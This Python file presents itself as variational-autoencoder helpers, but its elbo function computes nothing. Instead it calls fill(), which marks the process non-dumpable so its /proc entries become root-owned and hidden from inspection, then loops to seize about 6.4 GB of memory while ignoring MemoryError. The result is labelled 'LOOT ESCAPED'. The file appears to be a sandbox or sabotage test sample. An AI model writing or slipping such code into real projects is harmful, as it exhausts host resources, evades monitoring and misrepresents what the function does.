"""Fills memory in a call, as a process whose files in /proc are root's."""
# expects: partial elbo_values elbo_bound beta_scaling

import ctypes

import numpy as np


def fill():
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # not dumpable
    blocks = []
    while len(blocks) < 400:  # 6.4 GB, should nothing stop it
        try:
            blocks.append(np.ones(1 << 21))
        except MemoryError:
            pass
    return np.zeros(1, [("LOOT ESCAPED 6.4 GB held", "f8")])


def reparameterize(mu, log_var):
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    return fill()
